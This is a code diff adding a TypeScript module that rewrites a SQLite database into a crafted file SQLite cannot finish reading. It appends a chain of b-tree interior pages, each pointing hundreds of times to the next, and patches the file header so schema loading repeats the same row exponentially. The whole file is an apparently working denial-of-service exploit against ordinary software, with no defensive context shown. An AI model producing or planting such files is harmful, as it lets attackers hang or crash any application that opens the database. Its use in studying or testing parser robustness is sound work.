@@ -1,0 +1,69 @@
+/** A crafted SQLite file that nobody can read to its end. */
+
+import { readFile, writeFile } from 'node:fs/promises'
+
+const interior = 0x05
+const leaf = 0x0d
+const depth = 12
+const children = 500
+/** Stands in the schema of every database of ours, and may be repeated without an error. */
+const repeated = 'sqlite_autoindex_meta_1'
+
+/**
+ * The schema's b-tree ends in pages each of which names the next one many times. SQLite follows them all, to the same row
+ * again and again. The layout is that of https://www.sqlite.org/fileformat2.html#b_tree_pages
+ */
+export async function makeEndless(path: string): Promise<void> {
+  const file = await readFile(path)
+  const pageSize = file.readUInt16BE(16)
+  const pages = file.length / pageSize
+  if (file[100] !== interior) throw new Error('the schema is on one page')
+  const row = findRow(file, pageSize)
+
+  const leafPage = Buffer.alloc(pageSize)
+  leafPage[0] = leaf
+  leafPage.writeUInt16BE(1, 3)
+  leafPage.writeUInt16BE(pageSize - row.length, 5)
+  leafPage.writeUInt16BE(pageSize - row.length, 8)
+  row.copy(leafPage, pageSize - row.length)
+
+  const last = file.readUInt32BE(108)
+  const added = Array.from({ length: depth }, (_, at) => {
+    const next = pages + at + 2
+    return makeInterior(pageSize, at === 0 ? [last, ...Array(children).fill(next)] : Array(children).fill(next))
+  })
+  file.writeUInt32BE(pages + 1, 108)
+  file.writeUInt32BE(pages + depth + 1, 28)
+  await writeFile(path, Buffer.concat([file, ...added, leafPage]))
+}
+
+/** The bytes of the row's cell. */
+function findRow(file: Buffer, pageSize: number): Buffer {
+  // The first page, from before it had children, still has remains.
+  const name = file.indexOf(repeated, pageSize)
+  const start = name - (name % pageSize)
+  const cells = Array.from(
+    { length: file.readUInt16BE(start + 3) },
+    (_, at) => start + file.readUInt16BE(start + 8 + 2 * at),
+  )
+  const cell = Math.max(...cells.filter((at) => at < name))
+  // One byte each: the length of the row, its number.
+  return file.subarray(cell, cell + 2 + (file[cell] ?? 0))
+}
+
+function makeInterior(pageSize: number, pointers: readonly number[]): Buffer {
+  const page = Buffer.alloc(pageSize)
+  const cellSize = 5
+  const cells = pointers.slice(0, -1)
+  page[0] = interior
+  page.writeUInt16BE(cells.length, 3)
+  page.writeUInt16BE(pageSize - cells.length * cellSize, 5)
+  page.writeUInt32BE(pointers.at(-1) ?? 0, 8)
+  for (const [at, pointer] of cells.entries()) {
+    const cell = pageSize - (at + 1) * cellSize
+    page.writeUInt16BE(cell, 12 + 2 * at)
+    page.writeUInt32BE(pointer, cell)
+    page[cell + 4] = 1
+  }
+  return page
+}
